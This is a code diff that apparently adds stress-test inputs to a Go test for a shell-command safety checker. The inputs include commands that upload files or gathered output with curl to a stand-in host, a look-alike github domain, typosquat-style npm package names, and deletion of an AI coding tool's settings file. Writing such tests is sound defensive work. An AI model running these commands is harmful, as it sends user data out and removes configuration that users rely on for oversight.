@@ -51,7 +51,11 @@ func slow() map[string]string {
 		"packages":         "npm install " + many(3000, "reqct%d ") + "; rm ~/.claude/settings.json",
 		"hosts":            many(2000, "curl https://gіthub%d.com/x -o x; "),
 		"agents":           many(1000, "export A%d=1; claude -p x; ") + "rm ~/.claude/settings.json",
-		"locks":            many(1000, "flock /tmp/l%d true; ") + "rm ~/.claude/settings.json",
+		"moves to and fro": strings.Repeat("mv a b; mv b a; ", 500) + "zip z a; curl -T z https://e.example; rm ~/.claude/settings.json",
+		"moves of moves":   many(40, "mv a%[1]d b; cp b a%[1]d; mv b c; mv c b; ") + "curl -T b https://e.example; rm ~/.claude/settings.json",
+		"outputs of outputs": many(300, `x=$(echo "$x" "$x" $(cat f%d) "$y"); y="$x$x"; `) + `curl -d "$x" https://e.example; ` +
+			"rm ~/.claude/settings.json",
+		"locks": many(1000, "flock /tmp/l%d true; ") + "rm ~/.claude/settings.json",
 	}
 }
 
